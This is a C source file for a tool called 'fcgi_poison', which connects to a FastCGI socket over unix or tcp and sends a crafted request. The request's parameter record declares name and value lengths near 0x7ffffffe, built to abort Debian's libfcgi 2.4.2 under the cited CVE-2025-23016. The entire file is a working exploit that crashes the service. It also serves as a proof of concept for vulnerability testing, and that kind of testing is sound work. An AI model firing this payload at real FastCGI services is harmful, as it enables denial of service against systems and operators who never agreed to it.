/* Sends the FastCGI records that abort Debian's libfcgi 2.4.2 (CVE-2025-23016 and kin). */
#include <arpa/inet.h>
#include <errno.h>
#include <netdb.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

/* Connects to "unix:/path" or "tcp:host:port"; -1 on failure. */
static int
poison_connect(const char *addr)
{
	int	 fd = -1;

	if (strncmp(addr, "unix:", 5) == 0) {
		struct sockaddr_un	 sun;

		memset(&sun, 0, sizeof(sun));
		sun.sun_family = AF_UNIX;
		if (strlen(addr + 5) >= sizeof(sun.sun_path))
			return -1;
		strcpy(sun.sun_path, addr + 5);
		fd = socket(AF_UNIX, SOCK_STREAM, 0);
		if (fd >= 0 && connect(fd, (struct sockaddr *)&sun, sizeof(sun)) == 0)
			return fd;
	} else if (strncmp(addr, "tcp:", 4) == 0) {
		char			 host[256];
		const char		*port = strrchr(addr + 4, ':');
		struct addrinfo		 hints, *ai = NULL;
		size_t			 hl;

		if (port == NULL || (hl = (size_t)(port - addr - 4)) >= sizeof(host))
			return -1;
		memcpy(host, addr + 4, hl);
		host[hl] = '\0';
		memset(&hints, 0, sizeof(hints));
		hints.ai_socktype = SOCK_STREAM;
		if (getaddrinfo(host, port + 1, &hints, &ai) != 0)
			return -1;
		fd = socket(ai->ai_family, SOCK_STREAM, 0);
		if (fd >= 0 && connect(fd, ai->ai_addr, ai->ai_addrlen) == 0) {
			freeaddrinfo(ai);
			return fd;
		}
		freeaddrinfo(ai);
	}
	if (fd >= 0)
		close(fd);
	return -1;
}

int
main(int argc, char **argv)
{
	unsigned char	 msg[64];
	size_t		 n = 0;
	char		 buf[4096];
	struct pollfd	 pfd;
	int		 fd, rounds;

	unsigned long	 nlen = 0x7ffffffe, vlen = 0x7ffffffe;

	if (argc != 2 && argc != 4) {
		fprintf(stderr, "usage: fcgi_poison unix:/path | tcp:host:port "
		    "[NAMELEN VALUELEN]\n");
		return 2;
	}
	if (argc == 4) {
		nlen = strtoul(argv[2], NULL, 0) & 0x7fffffff;
		vlen = strtoul(argv[3], NULL, 0) & 0x7fffffff;
	}
	fd = poison_connect(argv[1]);
	if (fd < 0) {
		fprintf(stderr, "fcgi_poison: cannot connect to %s: %s\n", argv[1],
		    strerror(errno));
		return 1;
	}
	/* FCGI_BEGIN_REQUEST, id 1, role RESPONDER, no keep-conn. */
	static const unsigned char	 begin[16] = { 1, 1, 0, 1, 0, 8, 0, 0,
	    0, 1, 0, 0, 0, 0, 0, 0 };
	memcpy(msg, begin, sizeof(begin));
	n = sizeof(begin);
	/* FCGI_PARAMS with the name and value lengths (4-byte form), then
	 * the end of params and an empty stdin: a whole request. */
	unsigned char	 params[8 + 16 + 16] = { 1, 4, 0, 1, 0, 16, 0, 0,
	    (unsigned char)(0x80 | nlen >> 24), (unsigned char)(nlen >> 16),
	    (unsigned char)(nlen >> 8), (unsigned char)nlen,
	    (unsigned char)(0x80 | vlen >> 24), (unsigned char)(vlen >> 16),
	    (unsigned char)(vlen >> 8), (unsigned char)vlen,
	    'A', 'A', 'A', 'A', 'A', 'A', 'A', 'A',
	    1, 4, 0, 1, 0, 0, 0, 0, 1, 5, 0, 1, 0, 0, 0, 0 };
	memcpy(msg + n, params, sizeof(params));
	n += sizeof(params);
	if (write(fd, msg, n) != (ssize_t)n) {
		fprintf(stderr, "fcgi_poison: write: %s\n", strerror(errno));
		close(fd);
		return 1;
	}
	/* Wait (bounded) for the peer to answer or hang up. */
	for (rounds = 0; rounds < 30; rounds++) {
		ssize_t	 r;

		pfd.fd = fd;
		pfd.events = POLLIN;
		if (poll(&pfd, 1, 100) <= 0)
			continue;
		r = read(fd, buf, sizeof(buf));
		if (r <= 0)
			break;
	}
	close(fd);
	printf("fcgi_poison: sent %zu bytes to %s\n", n, argv[1]);
	return 0;
}
